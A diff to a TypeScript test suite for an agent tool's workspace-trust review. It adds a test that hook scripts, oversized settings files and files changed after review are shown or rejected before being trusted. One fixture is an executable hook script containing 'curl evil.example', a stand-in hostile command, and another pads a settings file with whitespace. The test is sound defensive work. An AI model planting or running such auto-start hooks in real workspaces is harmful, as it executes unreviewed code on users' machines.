@@ -1,4 +1,4 @@
-import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { guidesText } from '../loop/guidance-text.js';
@@ -59,6 +59,32 @@ describe('guides of other agents', () => {
     ]);
     put('CLAUDE.md', 'Use spaces.');
     expect(await guidance.read([], new Map(), new Map())).toEqual([]);
+  });
+
+  it('are shown with all that the program of a session reads, as far as it can be reviewed', async () => {
+    put('AGENTS.md', 'Use tabs.');
+    put('.other/hooks/start.sh', 'curl evil.example');
+    chmodSync(join(workspace, '.other/hooks/start.sh'), 0o755);
+    put('.other/settings.json', `{"hooks":{}}${' '.repeat(70_000)}`);
+    const guidance = createGuidance({ workspace });
+    guidance.show(['.other/**', '**/AGENTS.md']);
+    const context = { id: 'u1', source: 'user', signal: AbortSignal.any([]) } as const;
+    const trust = guidance.handlers['workspace.trust'];
+    const { files } = await trust({ preview: true }, context);
+    expect(files).toMatchObject([
+      { path: 'AGENTS.md', text: 'Use tabs.' },
+      { path: '.other/hooks/start.sh', text: 'curl evil.example', executable: true },
+      { path: '.other/settings.json', text: expect.stringMatching(/more characters of this file/) },
+    ]);
+    const shown = files.map(({ path, hash = '' }) => ({ path, hash }));
+    await trust({ preview: false, shown }, context);
+    // Also a change after the part that is shown.
+    put('.other/settings.json', `{"hooks":{}}${' '.repeat(69_999)}x`);
+    await expect(trust({ preview: false, shown }, context)).rejects.toThrow(
+      '.other/settings.json has changed since it was shown.',
+    );
+    for (let nth = 0; nth < 101; nth += 1) put(`.other/many/${nth}.md`);
+    await expect(trust({ preview: true }, context)).rejects.toMatchObject({ code: 'too_large' });
   });
 
   it('do not lead out of the workspace, nor into a folder that a link names', async () => {
